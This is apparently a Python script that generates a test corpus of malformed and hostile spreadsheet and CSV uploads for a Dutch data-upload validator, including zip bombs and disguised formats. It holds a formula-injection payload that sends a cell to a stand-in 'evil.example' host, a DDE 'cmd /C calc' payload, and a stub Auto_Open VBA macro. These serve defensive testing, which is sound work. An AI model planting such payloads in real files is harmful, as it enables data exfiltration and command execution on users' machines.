"""Generate the bad-input corpus: malformed and hostile files a coordinator might upload.

Nothing here is committed as a binary: every file is made from a few lines of code, so a reader
can see what each one is and the corpus never goes stale. `build(out_dir)` writes them all;
`tests/test_corpus.py` loads each through `uploads.load_upload` and checks that it is refused
with a message that names what is wrong (`REFUSED`) or, for hostile-but-valid files, that it
loads with the values stored as plain text (`ACCEPTED`).

Run by hand to look at the files: `python tests/corpus/make_corpus.py OUT_DIR`.
"""

from __future__ import annotations

import csv
import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

QUARTER = "2024Q3"
PROJECT_HEADER = ["Projectreferentie", "Bedrijf", "Pijler", "Soort project", "Land", "Sector",
                  "Datum gerealiseerd", "Nieuwe directe banen", "Behouden banen", "Partner",
                  "Gemeente", "Met NFIA"]
MISSION_HEADER = ["Missiereferentie", "Naam", "Soort", "Pijler", "Land", "Stad", "Startdatum",
                  "Einddatum", "Deelnemende bedrijven"]
LEAD_HEADER = ["Missiereferentie", "Bedrijf", "Land", "Sector", "Pijler", "Status"]
MB = 1024 * 1024


def project(**changes: object) -> list[object]:
    """A valid projects row for 2024Q3; keyword arguments (header text, spaces as _) change it."""
    row = dict(zip(PROJECT_HEADER, ["P-1", "Acme Robotics B.V.", "Invest", "Nieuwe vestiging",
                                    "Duitsland", "ICT", "15-08-2024", 40, None, "IU",
                                    "Utrecht", "nee"], strict=True))
    for key, value in changes.items():
        row[key.replace("_", " ")] = value
    return list(row.values())


def mission(**changes: object) -> list[object]:
    row = dict(zip(MISSION_HEADER, ["M-1", "BIO Boston", "Beurs", "Invest", "VS", "Boston",
                                    "03-06-2024", "08-06-2024", 9], strict=True))
    for key, value in changes.items():
        row[key.replace("_", " ")] = value
    return list(row.values())


# --- writers --------------------------------------------------------------------------------

def xlsx(sheets: dict[str, Sequence[Sequence[object]]], *, text_cells: bool = False,
         merge: dict[str, str] | None = None) -> bytes:
    """A real .xlsx (openpyxl). `text_cells`: strings starting with '=' stay text, as Excel
    stores a cell typed with a leading apostrophe, instead of becoming formulas."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(list(row))
        if text_cells:
            for cells in ws.iter_rows():
                for cell in cells:
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        cell.data_type = "s"
        for cell_range in (merge or {}).get(name, "").split():
            ws.merge_cells(cell_range)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def projects(*rows: Sequence[object], header: Sequence[str] = PROJECT_HEADER) -> bytes:
    return xlsx({"Projecten": [header, *rows]})


def csv_text(rows: Sequence[Sequence[object]], delimiter: str = ";") -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    writer.writerows([["" if v is None else v for v in row] for row in rows])
    return buf.getvalue()


def rewrite_zip(data: bytes, edit: dict[str, bytes | None],
                compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A copy of a zip with members replaced or added (bytes) or removed (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(out, "w", compression) as dst:
        for info in src.infolist():
            if info.filename not in edit:
                dst.writestr(info.filename, src.read(info.filename))
        for name, content in edit.items():
            if content is not None:
                dst.writestr(name, content)
    return out.getvalue()


def member(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read(name)


def zip_of(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    return buf.getvalue()


def ole2(*stream_names: str) -> bytes:
    """OLE2 magic, header and a directory sector naming the streams (Excel 97 .xls has
    "Workbook"; a password-protected .xlsx is an OLE2 file with "EncryptionInfo" and
    "EncryptedPackage"). Not a complete compound file: enough for what a reader must detect."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    entries = b""
    for name in ("Root Entry", *stream_names):
        encoded = (name + "\0").encode("utf-16-le")
        entries += encoded.ljust(64, b"\0") + len(encoded).to_bytes(2, "little") + bytes(62)
    return header + entries.ljust(512, b"\0") + random.Random(1).randbytes(2048)


# --- hostile makers -------------------------------------------------------------------------

def _bad_crc() -> bytes:
    """Flip the stored CRC-32 of the sheet (local header and central directory)."""
    data = projects(project())
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        crc = zf.getinfo("xl/worksheets/sheet1.xml").CRC
    old, new = struct.pack("<I", crc), struct.pack("<I", crc ^ 0xFFFFFFFF)
    assert data.count(old) == 2
    return data.replace(old, new)


def _bomb_ratio() -> bytes:
    """60 MB of zeros packed into ~60 kB: over 1/20 of the default unzipped limit and over
    100x the file size, so refused by the ratio rule with the reader's limits at default."""
    out = io.BytesIO(projects(project()))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf, \
            zf.open("xl/media/image1.bin", "w") as entry:
        chunk = bytes(MB)
        for _ in range(60):
            entry.write(chunk)
    return out.getvalue()


def _bomb_declared() -> bytes:
    """A member whose zip directory declares 3 GB unpacked (the data is tiny): the absolute
    unzipped limit must refuse it from the directory alone, before anything is unpacked."""
    data = zip_of({"[Content_Types].xml": member(projects(project()), "[Content_Types].xml"),
                   "xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": "<x/>"})
    end = data.rindex(b"PK\x05\x06")
    cd_offset = struct.unpack_from("<I", data, end + 16)[0]
    pos, out = cd_offset, bytearray(data)
    while out[pos:pos + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", out, pos + 28)
        name = bytes(out[pos + 46:pos + 46 + name_len])
        if name == b"xl/worksheets/sheet1.xml":
            struct.pack_into("<I", out, pos + 24, 3 * 1024 * MB)  # uncompressed size
        pos += 46 + name_len + extra_len + comment_len
    return bytes(out)


def _docx() -> bytes:
    return zip_of({"[Content_Types].xml": "<Types/>", "_rels/.rels": "<Relationships/>",
                   "word/document.xml": "<w:document><w:body>Projecten Q3</w:body></w:document>"})


def _ods() -> bytes:
    return zip_of({"mimetype": "application/vnd.oasis.opendocument.spreadsheet",
                   "content.xml": "<office:document-content/>"})


def _xlsb() -> bytes:
    return zip_of({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\x83\x01\x00"})


def _merged_header() -> bytes:
    return xlsx({"Projecten": [PROJECT_HEADER, project()]}, merge={"Projecten": "H1:I1"})


def _duplicate_header() -> bytes:
    return projects([*project(), "Andere B.V."], header=[*PROJECT_HEADER, "Company"])


def _missing_columns() -> bytes:
    keep = [i for i, h in enumerate(PROJECT_HEADER) if h not in ("Land", "Sector")]
    return projects([project()[i] for i in keep], header=[PROJECT_HEADER[i] for i in keep])


def _leads_unknown_mission() -> bytes:
    return xlsx({"Missies": [MISSION_HEADER, mission()],
                 "Leads": [LEAD_HEADER, ["M-9", "Genmab", "VS", "LSH", "Invest", "Nieuw"]]})


LONG_REFERENCE = "M-" + "x" * 600  # over the 500 characters a text cell may hold


def _long_mission_reference() -> bytes:
    """The Missies sheet's reference is too long; the Leads sheet refers to it."""
    return xlsx({"Missies": [MISSION_HEADER, mission(Missiereferentie=LONG_REFERENCE)],
                 "Leads": [LEAD_HEADER, [LONG_REFERENCE, "Genmab", "VS", "LSH", "Invest",
                                         "Nieuw"]]})


def _long_lead_reference() -> bytes:
    return xlsx({"Missies": [MISSION_HEADER, mission()],
                 "Leads": [LEAD_HEADER, [LONG_REFERENCE, "Genmab", "VS", "LSH", "Invest",
                                         "Nieuw"]]})


def _spaced_number_csv() -> bytes:
    """A number cell of 100,000 spaces between a digit and a word: refused as no number, in
    linear time (a regex that backtracked over the spaces took over a minute). The word is
    none a count is typed with ("30 banen" reads as 30, `numeric.parse_typed`)."""
    return csv_text([PROJECT_HEADER,
                     project(Nieuwe_directe_banen="1" + " " * 100_000 + "stuks")]).encode()


def _giant_cell_csv() -> bytes:
    """A quoted cell of 200,000 characters: over the csv module's cell limit (131,072)."""
    return csv_text([PROJECT_HEADER, project(Bedrijf="Acme " * 40_000)]).encode()


def _no_missions_sheet() -> bytes:
    return xlsx({"Blad1": [["Missies Q2, zie blad Leads"]],
                 "Leads": [LEAD_HEADER, ["M-1", "Genmab", "VS", "LSH", "Invest", "Nieuw"]]})


def _utf16_csv() -> bytes:
    """Excel's "Unicode text": UTF-16 with BOM, tab-separated; the bad country must be found
    on the right row, proving the file was decoded and read."""
    text = csv_text([PROJECT_HEADER, project(),
                     project(Projectreferentie="P-2", Land="Atlantis")], "\t")
    return text.encode("utf-16")


def _nul_csv() -> bytes:
    return csv_text([PROJECT_HEADER, project(Bedrijf="Acme\x00Robotics")]).encode()


def _wide_csv() -> bytes:
    return csv_text([PROJECT_HEADER, project() + [f"x{i}" for i in range(10_000)]]).encode()


def _shifted_csv() -> bytes:
    """'1;5' retained jobs typed without quotes: one value too many, every later one shifted."""
    line = ";".join("" if v is None else str(v) for v in project(Behouden_banen="1;5"))
    return (";".join(PROJECT_HEADER) + "\r\n" + line + "\r\n").encode("cp1252")


def _only_header_csv() -> bytes:
    return csv_text([MISSION_HEADER]).encode("cp1252")


# --- hostile files that are fine to load --------------------------------------------------

INJECTIONS = {
    "Bedrijf": '=HYPERLINK("http://evil.example/?d="&A1,"klik hier")',
    "Gemeente": "+cmd|' /C calc'!A0",
}


def _injection_xlsx() -> bytes:
    return xlsx({"Projecten": [PROJECT_HEADER, project(**INJECTIONS)]}, text_cells=True)


def _injection_csv() -> bytes:
    return csv_text([PROJECT_HEADER, project(**INJECTIONS)]).encode()


def _xlsm() -> bytes:
    """A macro-enabled workbook with a VBA project (an Auto_Open macro would live there)."""
    data = projects(project(Bedrijf="Macro B.V."))
    types = member(data, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
                     b'vbaProject"/></Types>')
    rels = member(data, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                             b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                             b"</Relationships>")
    vba = ole2("VBA", "dir", "ThisWorkbook", "_VBA_PROJECT") + b"Sub Auto_Open()\nShell \"calc\""
    return rewrite_zip(data, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels,
                              "xl/vbaProject.bin": vba})


def _external_link() -> bytes:
    """The company cell is a formula into another workbook on a file share; only its cached
    value ("Extern B.V.") may be read, nothing is fetched."""
    data = projects(project(Bedrijf="='[1]Blad1'!$A$1"))
    sheet = member(data, "xl/worksheets/sheet1.xml")
    old = b"<c r=\"B2\"><f>'[1]Blad1'!$A$1</f><v /></c>"
    assert old in sheet, sheet
    sheet = sheet.replace(old, b"<c r=\"B2\" t=\"str\"><f>[1]Blad1!$A$1</f><v>Extern B.V.</v></c>")
    workbook = member(data, "xl/workbook.xml").replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdExt"/>'
                      b"</externalReferences>")
    rels = member(data, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdExt" Type="http://schemas.openxmlformats.'
                             b'org/officeDocument/2006/relationships/externalLink" '
                             b'Target="externalLinks/externalLink1.xml"/></Relationships>')
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<externalBook r:id="rId1"><sheetNames><sheetName val="Blad1"/></sheetNames>'
            b'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str">'
            b"<v>Extern B.V.</v></cell></row></sheetData></sheetDataSet></externalBook>"
            b"</externalLink>")
    link_rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                 b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.'
                 b'org/officeDocument/2006/relationships/externalLinkPath" '
                 b'Target="file:///\\\\fileserver\\geheim\\bron.xlsx" TargetMode="External"/>'
                 b"</Relationships>")
    return rewrite_zip(data, {"xl/worksheets/sheet1.xml": sheet, "xl/workbook.xml": workbook,
                              "xl/_rels/workbook.xml.rels": rels,
                              "xl/externalLinks/externalLink1.xml": link,
                              "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


# --- the corpus -----------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    """One file: how to make it and what the coordinator must be told."""

    name: str                       # file name as uploaded
    make: Callable[[], bytes]
    expect: tuple[str, ...] = ()    # words an error message must contain (refused files)
    kind: str = "projects"
    quarter: str = QUARTER
    where: tuple[str | None, int | None, str | None] | None = None  # sheet, row, column
    value: str | None = None        # the cell value the report quotes, as the user typed it
    max_upload_mb: float | None = None  # lower the upload cap for this file only
    stored: dict[str, object] = field(default_factory=dict)  # accepted files: column -> value


def _p(**changes: object) -> Callable[[], bytes]:
    return lambda: projects(project(**changes))


def _serial_60() -> bytes:
    """Excel's fictitious 29-02-1900: serial 60 in a date-formatted cell."""
    wb = openpyxl.load_workbook(io.BytesIO(projects(project(Datum_gerealiseerd=60))))
    wb["Projecten"]["G2"].number_format = "dd-mm-yyyy"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


_PRJ = "Projecten"
REFUSED: list[Case] = [
    # not a spreadsheet, or not one we can open safely
    Case("leeg.xlsx", lambda: b"", ("leeg", "0 bytes")),
    Case("leeg.csv", lambda: b"", ("leeg", "0 bytes")),
    Case("rapport.xlsx", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" * 20,
         ("geen spreadsheet", "PDF")),
    Case("foto.xlsx", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200),
         ("geen spreadsheet", "PNG")),
    Case("brief.xlsx", _docx, ("geen spreadsheet", "Word-document")),
    Case("notities.xlsx", lambda: zip_of({"notities.txt": "Projecten Q3: zie mail"}),
         ("geen spreadsheet", "zip-bestand")),
    Case("ruis.xlsx", lambda: random.Random(42).randbytes(5000),
         ("heet .xlsx", "geen geldig Excel-bestand")),
    Case("afgebroken.xlsx", lambda: projects(project())[:2000], ("beschadigd",)),
    Case("crc.xlsx", _bad_crc, ("beschadigd",)),
    Case("oud.xls", lambda: ole2("Workbook", "SummaryInformation"), (".xls", "sla op als .xlsx")),
    Case("geheim.xlsx", lambda: ole2("EncryptionInfo", "EncryptedPackage"), ("wachtwoord",)),
    Case("bom-ratio.xlsx", _bomb_ratio, ("pakt uit tot 60 MB", "zip-bom")),
    Case("bom-groot.xlsx", _bomb_declared, ("pakt uit tot 3072 MB", "zip-bom")),
    Case("groot.xlsx", _p(), ("groter dan", "grens voor een upload"), max_upload_mb=0.002),
    Case("webpagina.xls", lambda: b"<!DOCTYPE html><html><body><table><tr><td>Bedrijf</td>"
                                  b"</tr></table></body></html>", ("webpagina",)),
    Case("excel2003.xml", lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-'
                                  b'microsoft-com:office:spreadsheet"></Workbook>',
         ("XML-bestand",)),
    Case("rekenblad.ods", _ods, ("OpenDocument",)),
    Case("binair.xlsb", _xlsb, (".xlsb",)),
    Case("ingepakt.csv", lambda: b"\x1f\x8b\x08\x00" + zlib.compress(b"Bedrijf;Land"), ("gzip",)),
    # the file opens, but the sheet is not as agreed
    # (a projects file with only its header row loads: an explicit empty quarter)
    Case("alleen-kop.xlsx", lambda: xlsx({"Missies": [MISSION_HEADER]}), ("geen gegevensrijen",),
         kind="missions"),
    Case("alleen-kop.csv", _only_header_csv, ("geen gegevensrijen",), kind="missions"),
    Case("lege-regels.csv", lambda: b"\r\n  \r\n;;;;\r\n\r\n", ("geen kopregel",)),
    Case("geen-kop.xlsx", lambda: xlsx({_PRJ: [["Overzicht Q3"], ["Acme", 12, "Duitsland"]]}),
         ("geen kopregel gevonden", "'Projectreferentie'")),
    Case("kolommen-weg.xlsx", _missing_columns, ("verplichte kolom 'Land' ontbreekt",),
         where=(_PRJ, 1, "Land")),
    Case("samengevoegd.xlsx", _merged_header, ("samengevoegde cellen", "H1:I1")),
    Case("dubbele-kop.xlsx", _duplicate_header, ("staat meer dan één keer",)),
    Case("geen-missies.xlsx", _no_missions_sheet, ("blad 'Missies' ontbreekt", "'Blad1'"),
         kind="missions", quarter="2024Q2"),
    Case("breed.csv", _wide_csv, ("10012 waarden maar de kopregel 12 kolommen",)),
    Case("verschoven.csv", _shifted_csv, ("waarden maar de kopregel",)),
    Case("nul-byte.csv", _nul_csv, ("NUL", "regel 2")),
    Case("unicode.csv", _utf16_csv, ("onbekend land",), where=(None, 3, "Land")),
    # cells the validator must refuse, each located at sheet, row and column
    Case("land-leeg.xlsx", lambda: projects(project(Land=None), project(Projectreferentie="P-2",
                                                                        Land=None)),
         ("verplichte veld is leeg",), where=(_PRJ, 2, "Land")),
    Case("negatief.xlsx", _p(Nieuwe_directe_banen=-5), ("negatief",),
         where=(_PRJ, 2, "Nieuwe directe banen"), value="-5"),
    Case("tekst-getal.xlsx", _p(Nieuwe_directe_banen="veertig"), ("geen getal",),
         where=(_PRJ, 2, "Nieuwe directe banen")),
    Case("te-groot-getal.xlsx", _p(Nieuwe_directe_banen="9" * 400), ("te groot",),
         where=(_PRJ, 2, "Nieuwe directe banen")),
    Case("banen-1e308.xlsx", _p(Nieuwe_directe_banen=1e308), ("te groot", "10.000 banen"),
         where=(_PRJ, 2, "Nieuwe directe banen")),
    Case("excel-29-02-1900.xlsx", _serial_60, ("vóór 1 maart 1900",),
         where=(_PRJ, 2, "Datum gerealiseerd")),
    Case("kwartaal-9999Q4.xlsx", _p(), ("valt buiten de jaren 2000–2100",), quarter="9999Q4"),
    Case("kwartaal-1900Q1.xlsx", _p(), ("valt buiten de jaren 2000–2100",), quarter="1900Q1"),
    Case("land.xlsx", _p(Land="Atlantis"), ("onbekend land",), where=(_PRJ, 2, "Land"),
         value="Atlantis"),
    Case("sector.xlsx", _p(Sector="Ruimtevaart-mijnbouw"), ("onbekende waarde", "kies uit"),
         where=(_PRJ, 2, "Sector")),
    Case("soort.xlsx", _p(Soort_project="Samenwerking"), ("onbekende waarde",),
         where=(_PRJ, 2, "Soort project")),
    Case("ja-nee.xlsx", _p(Met_NFIA="misschien"), ("kies ja of nee",),
         where=(_PRJ, 2, "Met NFIA")),
    Case("buiten-kwartaal.xlsx", _p(Datum_gerealiseerd="15-01-2024"),
         ("buiten het gekozen kwartaal 2024Q3",), where=(_PRJ, 2, "Datum gerealiseerd")),
    Case("31-februari.xlsx", _p(Datum_gerealiseerd="31-02-2024"), ("bestaat niet",),
         quarter="2024Q1", where=(_PRJ, 2, "Datum gerealiseerd")),
    Case("jaar-twee-cijfers.xlsx", _p(Datum_gerealiseerd="15-08-24"), ("datum niet herkend",),
         where=(_PRJ, 2, "Datum gerealiseerd")),
    Case("tbd.xlsx", _p(Datum_gerealiseerd="tbd"), ("nog niet bekend", "tbd"),
         where=(_PRJ, 2, "Datum gerealiseerd")),
    Case("dubbel.xlsx", lambda: projects(project(), project(Bedrijf="Ander B.V.")),
         ("dubbel", "rij 2"), where=(_PRJ, 3, "Projectreferentie")),
    Case("pijler.xlsx", _p(Soort_project="Exportcontract"), ("passen niet bij elkaar",),
         where=(_PRJ, 2, "Soort project")),
    Case("lange-tekst.xlsx", _p(Bedrijf="Acme " * 120), ("langer dan 500 tekens",),
         where=(_PRJ, 2, "Bedrijf")),
    Case("leads.xlsx", _leads_unknown_mission, ("niet op het blad Missies",), kind="missions",
         quarter="2024Q2", where=("Leads", 2, "Missiereferentie")),
    Case("lange-missiereferentie.xlsx", _long_mission_reference, ("langer dan 500 tekens",),
         kind="missions", quarter="2024Q2", where=("Missies", 2, "Missiereferentie")),
    Case("lange-leadreferentie.xlsx", _long_lead_reference, ("langer dan 500 tekens",),
         kind="missions", quarter="2024Q2", where=("Leads", 2, "Missiereferentie")),
    Case("spaties-in-getal.csv", _spaced_number_csv, ("geen getal",),
         where=(None, 2, "Nieuwe directe banen")),
    Case("bedrijven-half.xlsx",
         lambda: xlsx({"Missies": [MISSION_HEADER, mission(Deelnemende_bedrijven="2,5")]}),
         ("geheel getal",), kind="missions", quarter="2024Q2",
         where=("Missies", 2, "Deelnemende bedrijven")),
    Case("bedrijven-enorm.xlsx",
         lambda: xlsx({"Missies": [MISSION_HEADER, mission(Deelnemende_bedrijven=99_999_999_999)]}),
         ("te groot",), kind="missions", quarter="2024Q2",
         where=("Missies", 2, "Deelnemende bedrijven"), value="99999999999"),
    Case("reuzencel.csv", _giant_cell_csv, ("cel is langer dan 131.072 tekens",)),
    Case("bedrijven-half-getypt.xlsx",
         lambda: xlsx({"Missies": [MISSION_HEADER, mission(Deelnemende_bedrijven=2.5)]}),
         ("geheel getal",), kind="missions", quarter="2024Q2",
         where=("Missies", 2, "Deelnemende bedrijven"), value="2,5"),
    Case("einddatum.xlsx",
         lambda: xlsx({"Missies": [MISSION_HEADER, mission(Einddatum="01-06-2024")]}),
         ("einddatum ligt voor de startdatum",), kind="missions", quarter="2024Q2",
         where=("Missies", 2, "Einddatum")),
]

ACCEPTED: list[Case] = [
    Case("formule-injectie.xlsx", _injection_xlsx,
         stored={"company": INJECTIONS["Bedrijf"], "municipality": INJECTIONS["Gemeente"]}),
    Case("formule-injectie.csv", _injection_csv,
         stored={"company": INJECTIONS["Bedrijf"], "municipality": INJECTIONS["Gemeente"]}),
    Case("macro.xlsm", _xlsm, stored={"company": "Macro B.V."}),
    Case("min-nul.xlsx", _p(Nieuwe_directe_banen="-0"), stored={"new_jobs": 0.0}),
    Case("externe-koppeling.xlsx", _external_link, stored={"company": "Extern B.V."}),
]


def build(out_dir: str | Path) -> dict[str, Path]:
    """Write every corpus file into `out_dir`; returns file name -> path."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    for case in (*REFUSED, *ACCEPTED):
        path = out / case.name
        path.write_bytes(case.make())
        paths[case.name] = path
    return paths


if __name__ == "__main__":
    for written in build(sys.argv[1] if len(sys.argv) > 1 else "corpus-out").values():
        print(written)
